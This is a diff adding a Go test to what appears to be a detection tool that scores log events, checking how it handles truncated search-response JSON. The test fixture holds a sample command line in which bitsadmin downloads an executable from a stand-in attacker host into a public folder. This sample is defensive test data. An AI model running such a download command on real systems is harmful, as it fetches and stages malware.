@@ -558,3 +558,21 @@ func TestHitsOutsideASearchResponse(t *testing.T) {
 		t.Errorf("fields (-want +got):\n%s", diff)
 	}
 }
+
+// A search response or results document cut short gives the events read
+// before the cut and one error for the rest.
+func TestDocumentCutShort(t *testing.T) {
+	hit := `{"_index":"i","_id":"1","_source":{"CommandLine":"bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe","Image":"C:\\Windows\\System32\\bitsadmin.exe"}}`
+	for name, input := range map[string]string{
+		"search response": `{"took":1,"hits":{"hits":[` + hit + `,` + hit,
+		"results":         `{"results":[` + hit + `,` + hit + `,`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, stderr, status := runScore(strings.NewReader(input), "--format", "csv")
+			if status != ExitAlert || !strings.Contains(stderr, "-:3: JSON at byte") || !strings.Contains(stderr, "unexpected EOF") ||
+				!strings.Contains(stderr, "-: 2 events scored, 2 alert, 1 could not be read") {
+				t.Errorf("status %d, stderr %q", status, stderr)
+			}
+		})
+	}
+}
